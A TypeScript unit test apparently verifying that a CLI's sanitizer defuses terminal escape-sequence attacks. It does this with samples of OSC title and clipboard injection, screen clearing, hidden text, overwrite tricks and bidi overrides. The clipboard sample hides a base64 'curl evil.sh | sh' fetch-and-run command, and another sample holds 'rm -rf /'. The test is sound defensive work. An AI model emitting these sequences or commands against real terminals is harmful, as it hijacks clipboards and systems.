/**
 * What the CLI prints of a session's content cannot drive the operator's terminal.
 *
 *   node --import tsx --test test/unit/terminal.test.ts
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { safeJson, termSafe } from '../../cli/terminal';

const ESC = '\u001b';
const attacks: Record<string, string> = {
  'window title (OSC 0)': `${ESC}]0;pwned${'\u0007'}`,
  'clipboard (OSC 52)': `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${'\u0007'}`,
  'clear screen (CSI 2J)': `${ESC}[2J${ESC}[H`,
  'hidden text (SGR 8)': `${ESC}[8msecret${ESC}[0m`,
  '8-bit CSI (C1)': '\u009b2J',
  'carriage return overwrite': 'rm -rf /\rls -l    ',
  'backspace overwrite': 'safe\b\b\b\bevil',
  'bidi override (Trojan Source)': 'access\u202e\u2066 // admin\u2069\u2066',
};

for (const [name, text] of Object.entries(attacks)) {
  test(`termSafe defuses ${name}`, () => {
    const out = termSafe(`before ${text} after`);
    assert.doesNotMatch(out, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, 'no control character left');
    assert.ok(out.startsWith('before ') && out.endsWith(' after'), 'the rest is kept');
    const json = safeJson({ text });
    assert.doesNotMatch(json, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, 'JSON output is safe too');
    assert.deepEqual(JSON.parse(json), { text }, 'and still the same JSON');
  });
}

test('termSafe keeps newlines, tabs and ordinary Unicode, and shows escapes visibly', () => {
  assert.equal(termSafe('a\tb\nc é 日本 😀'), 'a\tb\nc é 日本 😀');
  assert.equal(termSafe(`${ESC}[31m`), '\\x1b[31m');
  assert.equal(termSafe('\u202e'), '\\u202e');
});
